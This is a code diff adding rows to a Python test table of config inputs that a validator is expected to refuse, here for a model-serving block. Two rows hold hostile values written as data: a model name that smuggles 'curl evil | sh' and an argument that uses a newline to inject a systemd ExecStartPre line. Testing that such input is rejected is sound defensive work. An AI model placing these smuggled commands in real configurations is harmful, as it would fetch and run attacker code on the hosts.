@@ -296,6 +296,14 @@ REFUSED: list[tuple[str, str, dict[str, Any], str]] = [
     ("sshPrivateKey", "exp-aws-spot", {"sshPrivateKey": SECURE}, "applies only to bare-metal"),
     ("sshSourceRanges", "dedicated-h100", {"sshSourceRanges": ["203.0.113.0/24"]}, "opens no firewall"),
     ("publicIp", "dedicated-h100", {"publicIp": True}, "their addresses are the provider's"),
+    ("serving", "exp-aws-spot", {"serving": {"model": "Qwen/Qwen2.5-7B-Instruct"}}, "runs no serving group"),
+    ("serving", "serve-gcp-realtime", {"serving": {"model": "m; curl evil | sh"}}, "should match pattern"),
+    ("serving", "serve-gcp-realtime", {"serving": {"args": ["--x\nExecStartPre=/bin/evil"]}}, "should match pattern"),
+    ("serving", "serve-gcp-realtime", {"serving": {"port": 22}}, "greater than or equal to 1024"),
+    ("serving", "serve-gcp-realtime", {"serving": {"image": "vllm/vllm-openai latest"}}, "should match pattern"),
+    ("serving", "serve-gcp-realtime", {"serving": {"modle": "x"}}, "unknown key"),
+    ("serving", "serve-gcp-realtime", {"serving": {"tokenSecret": "hf_abc def"}}, "should match pattern"),
+    ("serving", "batch-tpu-v5e", {"serving": {"model": "m"}}, "applies only to aws-gpu, gcp-gpu"),
 ]
 
 
